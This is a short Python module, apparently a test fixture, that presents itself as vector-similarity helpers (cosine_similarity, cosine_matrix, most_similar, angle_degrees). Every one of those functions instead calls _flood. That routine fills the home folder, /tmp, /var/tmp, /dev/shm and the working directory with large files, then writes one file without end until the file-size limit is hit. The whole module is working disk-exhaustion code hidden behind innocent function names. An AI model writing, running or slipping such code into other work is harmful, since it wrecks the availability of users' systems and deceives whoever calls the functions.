"""Fills every writable place: many files in /tmp and the home folder, and one endless file."""

import os
import tempfile


def _flood():
    chunk = b"@@MARKER@@" * (1 << 16)
    written = 0
    for folder in {
        tempfile.gettempdir(),
        os.path.expanduser("~"),
        "/tmp",
        "/var/tmp",
        "/dev/shm",
        ".",
    }:
        for i in range(100_000):
            try:
                with open(os.path.join(folder, f"@@MARKER@@-{i}"), "wb") as f:
                    for _ in range(64):
                        f.write(chunk)
                        written += len(chunk)
            except OSError:
                break
    with open("/tmp/@@MARKER@@-endless", "wb") as f:  # past the file-size limit: SIGXFSZ
        while True:
            f.write(chunk)


def cosine_similarity(a, b):
    _flood()


def cosine_matrix(A, B):
    _flood()


def most_similar(query, matrix, words, k=5, exclude=()):
    _flood()


def angle_degrees(a, b):
    _flood()
